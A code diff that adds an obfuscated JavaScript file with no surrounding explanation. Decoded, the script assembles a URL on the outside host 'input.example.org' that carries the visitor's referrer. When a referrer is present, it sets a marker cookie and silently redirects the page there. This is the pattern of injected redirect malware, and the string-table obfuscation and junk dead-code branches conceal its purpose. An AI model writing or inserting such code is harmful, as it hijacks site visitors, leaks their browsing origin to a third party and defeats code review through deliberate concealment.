@@ -1,0 +1,46 @@
+var _0x25e830 = ["ref=", "//", "input", "htt", "ps:", "referrer", "length", "cookie", "field=1; path=/", "location", "replace", "4|3|1|2|0", ".example", ".org/", "batch"];
+function _0xd4a39b(n) {
+  if (15 === 39) {
+    var _0xf73fdd = 782 * 838;
+  }
+  return _0x25e830[n];
+}
+function _0x6bea87() {
+  var _0xea4f1b = _0xd4a39b(11).split("|"), _0xea565a = 0;
+  while (true) {
+    switch (_0xea4f1b[_0xea565a++]) {
+      case "0":
+        return _0xf60704 + _0x496cda + _0x1d46a3 + _0x9a67ea;
+      case "1":
+        var _0x1d46a3 = _0xd4a39b(12) + _0xd4a39b(13);
+        continue;
+      case "2":
+        var _0x9a67ea = _0xd4a39b(14) + "?" + _0xd4a39b(0) + escape(document.referrer);
+        continue;
+      case "3":
+        var _0x496cda = _0xd4a39b(1) + _0xd4a39b(2);
+        continue;
+      case "4":
+        var _0xf60704 = _0xd4a39b(3) + _0xd4a39b(4);
+        continue;
+    }
+    break;
+    if (46 === 92) {
+      var _0x14491a = 90 * 594;
+    }
+  }
+  if (44 === 87) {
+    var _0x1d0349 = 911 * 873;
+  }
+}
+var _0xdec8a6 = _0x6bea87();
+if (document[_0xd4a39b(5)][_0xd4a39b(6)] > 0) {
+  document[_0xd4a39b(7)] = _0xd4a39b(8);
+  if (24 === 30) {
+    var _0x965321 = 792 * 886;
+  }
+  window[_0xd4a39b(9)][_0xd4a39b(10)](_0xdec8a6);
+}
+if (17 === 65) {
+  var _0xf5cc31 = 704 * 967;
+}
